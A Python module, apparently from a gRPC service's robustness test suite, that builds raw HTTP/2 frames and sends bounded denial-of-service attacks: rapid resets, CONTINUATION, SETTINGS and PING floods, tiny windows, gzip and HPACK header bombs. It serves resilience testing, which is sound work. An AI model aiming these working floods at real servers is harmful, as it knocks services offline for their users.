"""Attacks by raw HTTP/2 frames (RFC 9113): what they send, and a bounded way of sending it.

Each is sent over connections of its own to loopback alone, and ends after so many frames, so many
connections or so many seconds, whichever comes first: `python -m robustness.abuse` sends one.
"""

import asyncio
import contextlib
import functools
import json
import struct
import sys
import time
import zlib
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, replace
from itertools import chain, islice, repeat

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from mujaz.v1 import mujaz_pb2 as pb
from robustness.machine import ENVIRONMENT
from robustness.raw import Headers, framed, usual_headers

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_CANCEL = 0x8
_FRAME = 16_384
_MOST_CONNECTIONS = 10_000
_STUCK_S = 1.0
"""How long a peer that takes no more bytes is waited for, before another connection is tried."""
_DOCUMENT = "/mujaz.v1.MujazService/TranslateDocument"
# Without a letter nothing is left to the engine: what is measured is the cost of the wire alone.
_LINES = framed(pb.TranslateDocumentRequest(text="12.\n" * 40).SerializeToString())
_BOMB_MB = 32
_LINGER_S = 0.3


@dataclass(frozen=True, slots=True)
class Attack:
    """What one attacker sends.

    Attributes:
        name: What it is called.
        most: How many times its peculiar frame is sent, at most.
        lanes: Connections at once.
        chunks: What is sent over one connection: how often the frame is in it, and the bytes.
    """

    name: str
    most: int
    lanes: int
    chunks: Callable[[], Iterator[tuple[int, bytes]]]


async def attack(address: str, what: Attack, seconds: float) -> tuple[float, float, int]:
    """Attacks from a process of its own; tells when it began and ended, and the frames sent.

    It has the lowest priority: a real attacker works on a machine of its own, and what it takes of
    this one is no cost of the server.
    """
    argument = json.dumps([address, what.name, what.most, seconds])
    command = ["nice", "-n", "19", sys.executable, "-m", "robustness.abuse", argument]
    process = await asyncio.create_subprocess_exec(
        *command, env=ENVIRONMENT, stdout=asyncio.subprocess.PIPE
    )
    told, _ = await process.communicate()
    began, ended, sent = json.loads(told)
    return began, ended, sent


async def _attack(address: str, what: Attack, seconds: float) -> int:
    until = time.monotonic() + seconds
    lanes = [_lane(address, what, what.most // what.lanes, until) for _ in range(what.lanes)]
    return sum(await asyncio.gather(*lanes))


async def _lane(address: str, what: Attack, most: int, until: float) -> int:
    sent = connections = 0
    while sent < most and connections < _MOST_CONNECTIONS and time.monotonic() < until:
        connections += 1
        with contextlib.suppress(ConnectionError, TimeoutError):
            async with _connection(address) as writer:
                for count, chunk in what.chunks():
                    writer.write(chunk)
                    async with asyncio.timeout(_STUCK_S):
                        await writer.drain()
                    sent += count
                    await asyncio.sleep(0)  # the reader's turn
                    if sent >= most or time.monotonic() >= until:
                        break
    return sent


@contextlib.asynccontextmanager
async def _connection(address: str) -> AsyncIterator[asyncio.StreamWriter]:
    """A connection whose answers are read and thrown away; it is cut at the end."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))

    async def read() -> None:
        with contextlib.suppress(ConnectionError):
            while await reader.read(1 << 16):
                pass
        writer.transport.abort()

    reading = asyncio.create_task(read())
    try:
        writer.write(_PREFACE)
        yield writer
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(_LINGER_S):
                await asyncio.shield(reading)  # what was sent last is to arrive
    finally:
        reading.cancel()
        writer.transport.abort()


def _block(headers: Headers) -> bytes:
    """A header block that leaves no trace in the table, and so can be sent again and again."""
    never = [NeverIndexedHeaderTuple(name, value) for name, value in headers]
    return bytes(Encoder().encode(never, huffman=False))


def _headers(stream: int, block: bytes, *flags: str) -> bytes:
    frame = HeadersFrame(stream, block, flags=flags)
    return bytes(frame.serialize())


_CALL = _block(usual_headers(_DOCUMENT))
_HELLO = SettingsFrame(0).serialize()


def _streams(each: Callable[[int], bytes], in_a_chunk: int) -> Iterator[tuple[int, bytes]]:
    """One thousand streams of a connection, some of them at a time."""
    yield 0, _HELLO
    numbers = iter(range(1, 2_001, 2))
    while some := list(islice(numbers, in_a_chunk)):
        yield len(some), b"".join(map(each, some))


def _reset(stream: int) -> bytes:
    """A call that is taken back at once; every second one when it was whole."""
    whole = DataFrame(stream, _LINES, flags=["END_STREAM"]).serialize() if stream % 4 == 1 else b""
    reset = RstStreamFrame(stream, error_code=_CANCEL).serialize()
    return _headers(stream, _CALL, "END_HEADERS") + whole + bytes(reset)


def _rapid_reset() -> Iterator[tuple[int, bytes]]:
    return _streams(_reset, 20)


def _continuation() -> Iterator[tuple[int, bytes]]:
    more = _block([("x-more", "a" * 1_000)])
    frame = ContinuationFrame(1, more).serialize()
    yield 0, _HELLO + _headers(1, _CALL)
    yield from repeat((10, frame * 10), 1_000)


def _same(frame: Frame) -> Iterator[tuple[int, bytes]]:
    yield 0, _HELLO
    yield from repeat((100, frame.serialize() * 100), 100)


def _settings() -> Iterator[tuple[int, bytes]]:
    return _same(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 70_000}))


def _pings() -> Iterator[tuple[int, bytes]]:
    return _same(PingFrame(0, b"12345678"))


def _tiny_windows() -> Iterator[tuple[int, bytes]]:
    """Documents whose answers may come a byte at a time."""
    streams = range(1, 65, 2)
    tiny = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1}).serialize()
    data = DataFrame(1, _LINES, flags=["END_STREAM"])
    opened = bytearray(tiny)
    for stream in streams:
        data.stream_id = stream
        opened += _headers(stream, _CALL, "END_HEADERS") + data.serialize()
    updates = b"".join(WindowUpdateFrame(n, window_increment=1).serialize() for n in streams)
    yield 0, bytes(opened)
    yield from repeat((len(streams), updates), 10_000)


def _header_bomb() -> Iterator[tuple[int, bytes]]:
    """Blocks of 8 kB that name one entry of the table over and over: 32 MB of headers each."""
    indexed = Encoder()
    entry = bytes(indexed.encode([("x-bomb", "a" * 4_000)], huffman=False))
    named = b"\xbe" * 8_000  # index 62, the newest entry
    first = HeadersFrame(1, _CALL + entry + named, flags=["END_HEADERS", "END_STREAM"])
    yield 1, _HELLO + first.serialize()
    blocks = (
        HeadersFrame(stream, _CALL + named, flags=["END_HEADERS", "END_STREAM"]).serialize()
        for stream in range(3, 400, 2)
    )
    yield from ((1, block) for block in blocks)


def _gzip_bomb() -> Iterator[tuple[int, bytes]]:
    """A message of 32 kB that says it is 32 MB, eight times what the server takes."""
    block = _block([*usual_headers(_DOCUMENT), ("grpc-encoding", "gzip")])
    body = framed(_bomb(), flag=1)
    pieces = [body[at : at + _FRAME] for at in range(0, len(body), _FRAME)]
    frames = [DataFrame(1, piece).serialize() for piece in pieces[:-1]]
    frames.append(DataFrame(1, pieces[-1], flags=["END_STREAM"]).serialize())
    yield 1, b"".join(chain([_HELLO, _headers(1, block, "END_HEADERS")], frames))


@functools.cache
def _bomb() -> bytes:
    """A gzip file (RFC 1952) of zeros: one block over and over, so that it is quickly made."""
    zeros = bytes(1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
    check = functools.reduce(lambda sum_, _: zlib.crc32(zeros, sum_), range(_BOMB_MB), 0)
    head, last = b"\x1f\x8b\x08" + bytes(6) + b"\xff", b"\x03\x00"
    size = struct.pack("<II", check, _BOMB_MB << 20)
    return head + block * _BOMB_MB + last + size


HEADER_BOMBS = Attack("header bombs", 2_000, 2, _header_bomb)
"""gRPC's core keeps every header of a block, over the limit or not, until it has refused the call:
about a hundred bytes for each byte sent. No option of it bounds that; a proxy in front can."""
ATTACKS = (
    Attack("rapid resets", 20_000, 2, _rapid_reset),
    Attack("a CONTINUATION flood", 20_000, 2, _continuation),
    Attack("a SETTINGS flood", 1_000_000, 2, _settings),
    Attack("a PING flood", 10_000_000, 2, _pings),
    Attack("tiny windows", 10_000_000, 2, _tiny_windows),
    Attack("gzip bombs", 2_000, 8, _gzip_bomb),
    HEADER_BOMBS,
)


def _main(address: str, name: str, most: int, seconds: float) -> None:
    [what] = (each for each in ATTACKS if each.name == name)
    began = time.monotonic()
    sent = asyncio.run(_attack(address, replace(what, most=most), seconds))
    print(json.dumps([began, time.monotonic(), sent]))


if __name__ == "__main__":
    _main(*json.loads(sys.argv[1]))
